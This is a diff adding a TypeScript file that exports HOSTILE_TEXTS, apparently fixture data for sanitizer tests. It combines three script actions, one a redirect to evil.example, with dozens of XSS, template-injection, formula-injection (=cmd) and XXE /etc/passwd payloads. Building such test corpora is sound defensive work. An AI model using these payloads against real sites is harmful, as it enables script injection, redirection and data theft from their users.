@@ -1,0 +1,87 @@
+// Built from parts, so that each way to hide a script meets each place where one could run.
+const DEEDS = ["alert(1)", "top.location='//evil.example'", "fetch('/api')"];
+
+const ELEMENTS = [
+  (deed: string) => `<script>${deed}</script>`,
+  (deed: string) => `<ScRiPt >${deed}</sCrIpT >`,
+  (deed: string) => `<img src=x onerror=${deed}>`,
+  (deed: string) => `<img src=x onerror="${deed}"//`,
+  (deed: string) => `<svg onload=${deed}>`,
+  (deed: string) => `<svg><script href="data:text/javascript,${deed}" /></svg>`,
+  (deed: string) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
+  (deed: string) => `<body onload=${deed}>`,
+  (deed: string) => `<iframe srcdoc="<script>${deed}</script>">`,
+  (deed: string) => `<iframe src="javascript:${deed}">`,
+  (deed: string) =>
+    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${deed}'>">`,
+  (deed: string) => `<details open ontoggle=${deed}>x</details>`,
+  (deed: string) => `<input autofocus onfocus=${deed}>`,
+  (deed: string) => `<a href="javascript:${deed}">x</a>`,
+  (deed: string) => `<a href="java\tscript:${deed}">x</a>`,
+  (deed: string) => `<a href="&#106;avascript:${deed}">x</a>`,
+  (deed: string) => `<form action="javascript:${deed}"><button>x</button></form>`,
+  (deed: string) => `<object data="data:text/html,<script>${deed}</script>">`,
+  (deed: string) => `<embed src="javascript:${deed}">`,
+  (deed: string) => `<style>@import 'javascript:${deed}';</style>`,
+  (deed: string) => `<link rel=stylesheet href="javascript:${deed}">`,
+  (deed: string) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
+  (deed: string) => `<base href="javascript:${deed}//">`,
+  (deed: string) => `<template><script>${deed}</script></template>`,
+  (deed: string) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
+  (deed: string) => `<!--<img src="--><img src=x onerror=${deed}//">`,
+  (deed: string) => `<textarea></textarea><img src=x onerror=${deed}>`,
+  (deed: string) => `</title><script>${deed}</script>`,
+  (deed: string) => `</script><script>${deed}</script>`,
+  (deed: string) => `]]><script>${deed}</script>`,
+];
+
+const LINKS = [
+  (deed: string) => `javascript:${deed}`,
+  (deed: string) => `JaVaScRiPt:${deed}`,
+  (deed: string) => `\u0001javascript:${deed}`,
+  (deed: string) => `java\nscript:${deed}`,
+  (deed: string) => `vbscript:${deed}`,
+  (deed: string) => `data:text/html;base64,PHNjcmlwdD4=${deed}`,
+  (deed: string) => `data:text/html,<script>${deed}</script>`,
+  (deed: string) => `[x](javascript:${deed})`,
+  (deed: string) => `[x](https://example.org "onmouseover=${deed}")`,
+  (deed: string) => `![x](x "onerror=${deed}")`,
+  (deed: string) => `<javascript:${deed}>`,
+  (deed: string) => `https://example.org/"onmouseover="${deed}`,
+  (deed: string) => `https://example.org/'onmouseover='${deed}`,
+  (deed: string) => `https://example.org/<script>${deed}</script>`,
+  (deed: string) => `https://example.org/?a=javascript:${deed}`,
+  (deed: string) => `https://example.org\u202E/moc.live//:sptth ${deed}`,
+  (deed: string) => `https://javascript:${deed}@example.org/`,
+  (deed: string) => `http:javascript:${deed}`,
+  (deed: string) => `blob:https://example.org/${deed}`,
+  (deed: string) => `file:///etc/passwd?${deed}`,
+];
+
+const OTHERS = [
+  (deed: string) => `"><script>${deed}</script>`,
+  (deed: string) => `'><script>${deed}</script>`,
+  (deed: string) => `" autofocus onfocus="${deed}`,
+  (deed: string) => `\` onmouseover=\`${deed}`,
+  (deed: string) => `{{constructor.constructor('${deed}')()}}`,
+  (deed: string) => `\${${deed}}`,
+  (deed: string) => `<%= ${deed} %>`,
+  (deed: string) => `{"__proto__":{"x":"${deed}"}}`,
+  (deed: string) => `=HYPERLINK("javascript:${deed}")`,
+  (deed: string) => `=cmd|'/c ${deed}'!A1`,
+  (deed: string) => `+${deed}`,
+  (deed: string) => `@SUM(1+1)*${deed}`,
+  (deed: string) => `\uFEFF<script>${deed}</script>`,
+  (deed: string) => `＜script＞${deed}＜/script＞`,
+  (deed: string) => `&lt;script&gt;${deed}&lt;/script&gt;`,
+  (deed: string) => `&#x3C;script&#x3E;${deed}`,
+  (deed: string) => `%3Cscript%3E${deed}%3C/script%3E`,
+  (deed: string) => `\\u003cscript\\u003e${deed}`,
+  (deed: string) => `<!ENTITY x SYSTEM "file:///etc/passwd">&x;${deed}`,
+  (deed: string) => `<?xml version="1.0"?><x onload="${deed}"/>`,
+];
+
+/** Texts that become a script wherever text is taken for markup, for every place that prints words of people. */
+export const HOSTILE_TEXTS: readonly string[] = [...ELEMENTS, ...LINKS, ...OTHERS].flatMap((make) =>
+  DEEDS.map(make),
+);
